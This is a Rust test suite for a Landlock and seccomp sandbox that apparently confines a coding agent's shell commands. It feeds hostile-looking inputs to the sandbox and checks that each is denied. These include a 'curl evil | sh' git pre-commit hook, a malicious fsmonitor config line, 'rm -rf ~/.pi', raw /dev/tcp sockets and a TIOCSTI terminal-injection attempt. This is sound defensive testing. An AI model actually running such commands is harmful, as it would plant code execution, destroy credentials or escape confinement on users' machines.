//! The sandbox on this machine's kernel. These tests need Landlock and seccomp and fail (never
//! skip) where the kernel lacks them.

use std::net::TcpListener;

use super::*;

/// A scratch home: `work/` (a git repository with a commit), `.pi/agent/`, and an `outside/`.
struct Home {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Home {
    fn new(git: bool) -> Home {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("work/src")).unwrap();
        std::fs::create_dir_all(root.join(".pi/agent")).unwrap();
        std::fs::create_dir_all(root.join("outside")).unwrap();
        std::fs::write(root.join(".pi/agent/auth.json"), "{}").unwrap();
        std::fs::write(root.join("work/README.md"), "hello sandbox\n").unwrap();
        std::fs::write(root.join("work/src/lib.rs"), "fn main() {}\n").unwrap();
        if git {
            let git = |args: &[&str]| {
                let ok = Command::new("git")
                    .args(args)
                    .current_dir(root.join("work"))
                    .env("HOME", &root)
                    .output()
                    .unwrap()
                    .status
                    .success();
                assert!(ok, "git {args:?}");
            };
            git(&["init", "-q"]);
            git(&["add", "."]);
            git(&[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "commit",
                "-qm",
                "first",
            ]);
        }
        Home { _dir: dir, root }
    }

    /// The sandbox of a kernel that refuses unprivileged namespaces (Landlock and seccomp
    /// alone, roots split around `.git`).
    fn sandbox_without_namespaces(&self, config: Config) -> Sandbox {
        let mut kernel = Kernel::probe();
        kernel.namespaces = Err("pretend".into());
        Sandbox::prepare_on(&config, &self.work(), &self.root.join(".pi/agent"), kernel)
            .unwrap()
            .sandbox
            .unwrap()
    }

    fn work(&self) -> PathBuf {
        self.root.join("work")
    }

    fn sandbox(&self, config: Config) -> Sandbox {
        kernel_has_everything();
        Sandbox::prepare(&config, &self.work(), &self.root.join(".pi/agent"))
            .unwrap()
            .sandbox
            .unwrap()
    }
}

/// This suite's contract: the kernel it runs on has what the sandbox needs.
fn kernel_has_everything() {
    let k = Kernel::probe();
    let abi = k
        .landlock
        .expect("this kernel must have Landlock for the sandbox tests");
    assert!(abi >= 1);
    k.seccomp
        .expect("this kernel must have seccomp for the sandbox tests");
}

fn mode(mode: Mode) -> Config {
    Config {
        mode,
        ..Config::default()
    }
}

/// Runs `script` with bash, confined; (exit code, stdout + stderr).
fn run(sandbox: &Sandbox, cwd: &Path, script: &str) -> (i32, String) {
    let mut cmd = Command::new("/bin/bash");
    cmd.arg("-c")
        .arg(script)
        .current_dir(cwd)
        .env("HOME", cwd.parent().unwrap());
    sandbox.confine(&mut cmd).unwrap();
    let out = cmd.output().unwrap();
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

#[track_caller]
fn ok(sandbox: &Sandbox, cwd: &Path, script: &str) -> String {
    let (code, out) = run(sandbox, cwd, script);
    assert_eq!(code, 0, "{script} should work: {out}");
    out
}

#[track_caller]
fn denied(sandbox: &Sandbox, cwd: &Path, script: &str) -> String {
    let (code, out) = run(sandbox, cwd, script);
    assert_ne!(code, 0, "{script} should be denied: {out}");
    assert!(
        out.contains("Permission denied")
            || out.contains("Read-only file system")
            || out.contains("Device or resource busy")
            || out.contains("Couldn't connect"),
        "{script}: {out}"
    );
    out
}

/// A path under /etc that does not exist yet, removed again if a broken sandbox wrote it.
struct EtcProbe(PathBuf);

impl EtcProbe {
    fn new() -> EtcProbe {
        EtcProbe(PathBuf::from(format!(
            "/etc/pi-sandbox-test-{}",
            std::process::id()
        )))
    }
}

impl Drop for EtcProbe {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn workspace_write_allows_the_project_and_denies_the_escapes() {
    let home = Home::new(true);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    let etc = EtcProbe::new();

    denied(&sb, &work, "touch ~/outside/x");
    denied(&sb, &work, &format!("echo x > {}", etc.0.display()));
    denied(&sb, &work, "rm -rf ~/.pi");
    assert!(home.root.join(".pi/agent/auth.json").exists());
    assert!(!home.root.join("outside/x").exists() && !etc.0.exists());
    // The repository's .git stays read-only, hooks above all.
    denied(&sb, &work, "echo 'curl evil | sh' > .git/hooks/pre-commit");
    denied(&sb, &work, "echo '[core] fsmonitor = evil' >> .git/config");
    denied(&sb, &work, "mv .git .git-old");

    ok(
        &sb,
        &work,
        "echo new > src/new.txt && mkdir -p src/deep/er && touch src/deep/er/f",
    );
    ok(
        &sb,
        &work,
        "echo more >> README.md && sed -i s/hello/bye/ src/lib.rs",
    );
    assert!(home.work().join("src/new.txt").exists());
    let status = ok(&sb, &work, "git status --short");
    assert!(
        status.contains("README.md") && status.contains("src/"),
        "{status}"
    );
    ok(
        &sb,
        &work,
        "git log --oneline | grep -q first && git diff --stat",
    );
    ok(
        &sb,
        &work,
        "echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo x > /dev/null",
    );
    assert!(ok(&sb, &work, "echo $TMPDIR").trim() == sb.temp_dir().to_string_lossy());
}

#[test]
fn the_workspace_root_of_a_repository_keeps_its_entries() {
    let home = Home::new(true);
    let work = home.work();
    // With namespaces, .git is a read-only mount and the root stays writable.
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    assert!(
        sb.has_namespaces(),
        "this kernel must allow user namespaces"
    );
    ok(
        &sb,
        &work,
        "touch new-at-root.txt && mkdir build && rm new-at-root.txt && rmdir build",
    );
    denied(&sb, &work, "touch .git/new");
    // Without, Landlock cannot keep .git read-only without fixing the entries beside it.
    let sb = home.sandbox_without_namespaces(mode(Mode::WorkspaceWrite));
    denied(&sb, &work, "touch new-at-root.txt");
    denied(&sb, &work, "rm README.md");
    // ...but a folder that is not a repository is writable throughout.
    std::fs::remove_dir_all(work.join(".git")).unwrap();
    let sb = home.sandbox_without_namespaces(mode(Mode::WorkspaceWrite));
    ok(
        &sb,
        &work,
        "touch new-at-root.txt && mkdir build && rm README.md",
    );
}

#[test]
fn read_only_reads_everything_and_writes_only_its_temp_directory() {
    let home = Home::new(true);
    let sb = home.sandbox(mode(Mode::ReadOnly));
    let work = home.work();
    let out = ok(
        &sb,
        &work,
        "grep -rn hello . && ls -la src && cat README.md && git log --oneline && test -r ~/.pi/agent/auth.json",
    );
    assert!(
        out.contains("README.md:1:hello sandbox") && out.contains("first"),
        "{out}"
    );
    // A test command that only reads works.
    ok(
        &sb,
        &work,
        "bash -n src/lib.rs 2>/dev/null; test -f README.md && grep -q hello README.md",
    );
    for write in [
        "touch src/x",
        "echo x >> README.md",
        "mkdir src/d",
        "rm src/lib.rs",
        "touch ~/outside/x",
        "touch /tmp/pi-sandbox-escape",
    ] {
        denied(&sb, &work, write);
    }
    assert!(!Path::new("/tmp/pi-sandbox-escape").exists());
    ok(&sb, &work, "echo t > \"$TMPDIR/t\" && mkdir \"$TMPDIR/d\"");
}

#[test]
fn writable_roots_add_paths() {
    let home = Home::new(true);
    let config = Config {
        mode: Mode::WorkspaceWrite,
        writable_roots: vec!["../outside".into(), "~/does-not-exist".into()],
        ..Config::default()
    };
    let sb = home.sandbox(config);
    ok(&sb, &home.work(), "touch ~/outside/x");
    // A root inside a protected path is refused at start-up.
    for inside in [
        home.root.join(".pi/agent/sessions"),
        home.work().join(".git"),
    ] {
        let config = Config {
            mode: Mode::WorkspaceWrite,
            writable_roots: vec![inside.display().to_string()],
            ..Config::default()
        };
        std::fs::create_dir_all(&inside).unwrap();
        let err = Sandbox::prepare(&config, &home.work(), &home.root.join(".pi/agent"))
            .err()
            .unwrap();
        assert!(err.contains("which the sandbox keeps read-only"), "{err}");
    }
}

#[test]
fn internet_sockets_are_refused_and_unix_sockets_work() {
    let home = Home::new(false);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    let tcp = format!("exec 3<>/dev/tcp/127.0.0.1/{port}");
    let out = denied(&sb, &work, &tcp);
    assert!(out.contains("Permission denied"), "{out}");
    denied(
        &sb,
        &work,
        "python3 -c 'import socket; socket.socket(socket.AF_INET6)'",
    );
    assert!(
        listener.accept().is_err(),
        "a confined command reached the listener"
    );
    ok(
        &sb,
        &work,
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"s\")' && test -S s",
    );
    // `sandbox.network: true` opens it again.
    let open = home.sandbox(Config {
        mode: Mode::WorkspaceWrite,
        network: true,
        ..Config::default()
    });
    ok(&open, &work, &format!("{tcp} && echo hi >&3"));
    assert!(listener.accept().is_ok());
}

#[test]
fn truncate_is_refused_by_seccomp_where_landlock_does_not_check_it() {
    kernel_has_everything();
    let home = Home::new(false);
    let victim = home.root.join("outside/keep.txt");
    std::fs::write(&victim, "precious").unwrap();
    // Landlock older than ABI 3 lets truncate(2) through: pretend this is such a kernel.
    let config = mode(Mode::WorkspaceWrite);
    let kernel = Kernel {
        landlock: Ok(2),
        seccomp: Ok(()),
        namespaces: Err("no".into()),
    };
    let sb = Sandbox::prepare_on(&config, &home.work(), &home.root.join(".pi/agent"), kernel)
        .unwrap()
        .sandbox
        .unwrap();
    denied(
        &sb,
        &home.work(),
        &format!("truncate -s 0 {}", victim.display()),
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
}

#[test]
fn a_kernel_without_landlock_refuses_unless_the_fallback_is_warn() {
    let home = Home::new(false);
    let kernel = Kernel {
        landlock: Err("this kernel has no Landlock".into()),
        seccomp: Ok(()),
        namespaces: Err("no".into()),
    };
    let agent = home.root.join(".pi/agent");
    let config = mode(Mode::ReadOnly);
    let err = Sandbox::prepare_on(&config, &home.work(), &agent, kernel.clone())
        .err()
        .unwrap();
    assert!(
        err.contains("this kernel has no Landlock") && err.contains("--sandbox off"),
        "{err}"
    );
    let config = Config {
        fallback: Fallback::Warn,
        ..config
    };
    let p = Sandbox::prepare_on(&config, &home.work(), &agent, kernel).unwrap();
    assert!(p.warning.unwrap().contains("only partly enforced"));
    // What is left still holds: no internet socket, and the tools' own check.
    let sb = p.sandbox.unwrap();
    denied(&sb, &home.work(), "exec 3<>/dev/tcp/127.0.0.1/9");
    assert!(sb.open_for_write(&home.work().join("x")).is_err());
    // Without seccomp either, nothing pretends: no network denial is claimed.
    let none = Kernel {
        landlock: Err("no".into()),
        seccomp: Err("no".into()),
        namespaces: Err("no".into()),
    };
    let sb = Sandbox::prepare_on(&config, &home.work(), &agent, none)
        .unwrap()
        .sandbox
        .unwrap();
    assert_eq!(
        sb.explain_failure("curl x", "curl: (6) Could not resolve host: x"),
        None
    );
}

#[test]
fn the_tools_open_resolves_symlinks_and_dotdot_beneath_the_roots() {
    let home = Home::new(true);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    std::os::unix::fs::symlink(home.root.join("outside"), work.join("src/out")).unwrap();
    std::os::unix::fs::symlink("../../outside/new", work.join("src/dangling")).unwrap();
    assert!(sb.open_for_write(&work.join("new-at-root.txt")).is_ok());
    assert!(sb.open_for_write(&work.join("src/a/b.txt")).is_ok());
    assert!(sb.open_for_write(&sb.temp_dir().join("t")).is_ok());
    for bad in [
        work.join("../outside/x"),
        work.join("src/out/x"),
        work.join("src/dangling"),
        work.join("src/../.git/hooks/pre-commit"),
        home.root.join(".pi/agent/auth.json"),
        PathBuf::from("/etc/passwd"),
    ] {
        let e = sb.open_for_write(&bad).unwrap_err();
        assert!(e.starts_with("Sandbox (workspace-write): "), "{e}");
    }
    let e = sb.open_for_write(&work.join(".git/config")).unwrap_err();
    assert!(e.contains(".git") && e.contains("read-only"), "{e}");
    // Symlinks that stay in the root are followed, absolute ones too, a final one into its
    // target (which gets the content, as without the sandbox).
    std::os::unix::fs::symlink(work.join("src"), work.join("abs-src")).unwrap();
    std::os::unix::fs::symlink("src/lib.rs", work.join("alias.rs")).unwrap();
    sb.open_for_write(&work.join("abs-src/new.rs"))
        .unwrap()
        .replace(b"new", false)
        .unwrap();
    assert_eq!(std::fs::read(work.join("src/new.rs")).unwrap(), b"new");
    let t = sb.open_for_write(&work.join("alias.rs")).unwrap();
    assert_eq!(t.read().unwrap(), b"fn main() {}\n");
    t.replace(b"aliased", false).unwrap();
    assert_eq!(std::fs::read(work.join("src/lib.rs")).unwrap(), b"aliased");
    assert!(std::fs::symlink_metadata(work.join("alias.rs"))
        .unwrap()
        .file_type()
        .is_symlink());
    // An alias of the project (a link to it from outside) leads beneath the project.
    std::os::unix::fs::symlink(&work, home.root.join("alias")).unwrap();
    sb.open_for_write(&home.root.join("alias/src/via-alias.rs"))
        .unwrap()
        .replace(b"a", false)
        .unwrap();
    assert_eq!(std::fs::read(work.join("src/via-alias.rs")).unwrap(), b"a");
    let ro = home.sandbox(mode(Mode::ReadOnly));
    let e = ro.open_for_write(&work.join("src/x")).unwrap_err();
    assert!(e.contains("may write only in $TMPDIR"), "{e}");
}

#[test]
fn failures_are_explained_only_when_the_sandbox_is_to_blame() {
    let home = Home::new(true);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    let etc = EtcProbe::new();
    let explain = |script: &str| {
        let (code, out) = run(&sb, &work, script);
        assert_ne!(code, 0, "{script}: {out}");
        sb.explain_failure(script, &out).map(|e| e.line)
    };
    let e = explain("touch ~/outside/x").unwrap();
    assert!(
        e.contains("writing") && e.contains("outside/x") && e.contains("blocked"),
        "{e}"
    );
    let e = explain(&format!("echo x > {}", etc.0.display())).unwrap();
    assert!(e.contains(&etc.0.display().to_string()), "{e}");
    let e = explain("rm -rf ~/.pi").unwrap();
    assert!(
        e.contains(".pi/agent is read-only (pi's agent directory"),
        "{e}"
    );
    let e = explain("echo x > .git/hooks/pre-commit").unwrap();
    assert!(e.contains(".git is read-only"), "{e}");
    let split = home.sandbox_without_namespaces(mode(Mode::WorkspaceWrite));
    let explain_split = |script: &str| {
        let (code, out) = run(&split, &work, script);
        assert_ne!(code, 0, "{script}: {out}");
        split.explain_failure(script, &out).map(|e| e.line)
    };
    let e = explain_split("mkdir build").unwrap();
    assert!(
        e.contains("entries directly in") && e.contains("Work in a subdirectory"),
        "{e}"
    );
    let e = explain("exec 3<>/dev/tcp/127.0.0.1/9").unwrap();
    assert!(e.contains("network access is blocked"), "{e}");
    let e = explain("curl -sS http://127.0.0.1:9/ || curl -sS http://example.invalid/").unwrap();
    assert!(e.contains("network access is blocked"), "{e}");
    let e = explain("python3 -c 'import socket; socket.socket().connect((\"127.0.0.1\", 9))'");
    assert!(e.unwrap().contains("network access is blocked"));
    let e = explain_split("rm README.md").unwrap();
    assert!(e.contains("entries directly in"), "{e}");
    // Not the sandbox: a failing test, a missing file, a write inside the project, a script
    // at the root without its executable bit.
    std::fs::write(work.join("script.sh"), "echo hi\n").unwrap();
    assert_eq!(explain("./script.sh"), None);
    assert_eq!(explain("echo 'assertion failed' >&2; exit 1"), None);
    assert_eq!(explain("cat no-such-file"), None);
    assert_eq!(explain("echo x > src/ok.txt; exit 3"), None);
    // Unix sockets are not blocked, so their failures are not blamed either.
    assert_eq!(
        sb.explain_failure(
            "docker ps",
            "Cannot connect: failed to connect to unix:///var/run/docker.sock: no such file"
        ),
        None
    );
    // A file the user could not write either is not blamed on the sandbox.
    assert_eq!(
        sb.explain_failure(
            "x",
            "touch: cannot touch '/proc/sys/kernel/pi-x': Permission denied"
        ),
        None
    );
    let e = sb.explain_failure(
        "sudo ls",
        "sudo: The \"no new privileges\" flag is set, which prevents sudo from running as root.",
    );
    assert!(e.unwrap().summary.contains("sudo"));
}

#[test]
fn seccomp_program_is_small() {
    let p = seccomp::program(seccomp::Policy {
        block_network: true,
        block_truncate: true,
        block_tty_injection: true,
    });
    assert!(!p.is_empty() && p.len() < 40, "{}", p.len());
    assert!(seccomp::program(seccomp::Policy {
        block_network: false,
        block_truncate: false,
        block_tty_injection: false,
    })
    .is_empty());
}

#[test]
fn terminal_injection_is_refused_by_the_filter_itself() {
    // Commands have no controlling terminal; the filter also refuses TIOCSTI on a terminal a
    // command holds (EACCES: the filter's answer, not the kernel's EPERM).
    let home = Home::new(false);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    // SAFETY: posix_openpt and friends on a fresh pseudo-terminal we own.
    let slave = unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0);
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
        let name = std::ffi::CStr::from_ptr(libc::ptsname(master)).to_owned();
        std::fs::File::options()
            .read(true)
            .write(true)
            .open(name.to_str().unwrap())
            .unwrap()
    };
    let mut cmd = Command::new("python3");
    cmd.arg("-c")
        .arg("import fcntl, termios\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'#'); print('injected')\nexcept OSError as e: print('errno', e.errno)")
        .stdin(slave)
        .current_dir(home.work());
    sb.confine(&mut cmd).unwrap();
    let out = cmd.output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.trim(), format!("errno {}", libc::EACCES), "{out:?}");
}

/// Whether a live (not zombie) process has `needle` in its command line.
fn process_running(needle: &str) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
        let dir = e.path();
        let cmdline = std::fs::read(dir.join("cmdline")).unwrap_or_default();
        let stat = std::fs::read_to_string(dir.join("stat")).unwrap_or_default();
        let zombie = stat
            .rsplit(')')
            .next()
            .is_some_and(|s| s.trim_start().starts_with('Z'));
        !zombie
            && String::from_utf8_lossy(&cmdline)
                .replace('\0', " ")
                .contains(needle)
    })
}

#[test]
fn what_a_command_detaches_ends_with_it_with_or_without_namespaces() {
    let home = Home::new(false);
    let base = std::process::id() % 10_000 + 60_000;
    let with = home.sandbox(mode(Mode::WorkspaceWrite));
    let without = home.sandbox_without_namespaces(mode(Mode::WorkspaceWrite));
    for (i, sb) in [with, without].iter().enumerate() {
        let (a, b) = (base + 2 * i as u32, base + 2 * i as u32 + 1);
        let script = format!(
            "setsid sleep {a} >/dev/null 2>&1 < /dev/null & ( sleep {b} >/dev/null 2>&1 & ); sleep 0.2; exit 3"
        );
        let (code, out) = run(sb, &home.work(), &script);
        assert_eq!(code, 3, "{out}");
        let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while (process_running(&format!("sleep {a}")) || process_running(&format!("sleep {b}")))
            && std::time::Instant::now() < end
        {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        assert!(
            !process_running(&format!("sleep {a}")) && !process_running(&format!("sleep {b}")),
            "namespaces: {}",
            sb.has_namespaces()
        );
    }
}

#[test]
fn a_protected_path_created_later_is_read_only_from_the_next_command_on() {
    let home = Home::new(false);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    ok(&sb, &work, "echo hi > notes.txt");
    // The view was built without a .git; a command makes one.
    ok(&sb, &work, "mkdir .git && echo first > .git/config");
    denied(&sb, &work, "echo second > .git/config");
    assert_eq!(
        std::fs::read_to_string(work.join(".git/config")).unwrap(),
        "first\n"
    );
    ok(&sb, &work, "echo more >> notes.txt");
}

#[test]
fn a_protected_path_replaced_outside_a_command_is_read_only_again() {
    let home = Home::new(true);
    let sb = home.sandbox(mode(Mode::WorkspaceWrite));
    let work = home.work();
    denied(&sb, &work, "echo x > .git/evil");
    // The user (not a command) swaps the repository's .git for a fresh one.
    std::fs::rename(work.join(".git"), home.root.join("old-git")).unwrap();
    std::fs::create_dir(work.join(".git")).unwrap();
    denied(&sb, &work, "echo x > .git/evil");
    assert!(!work.join(".git/evil").exists());
}
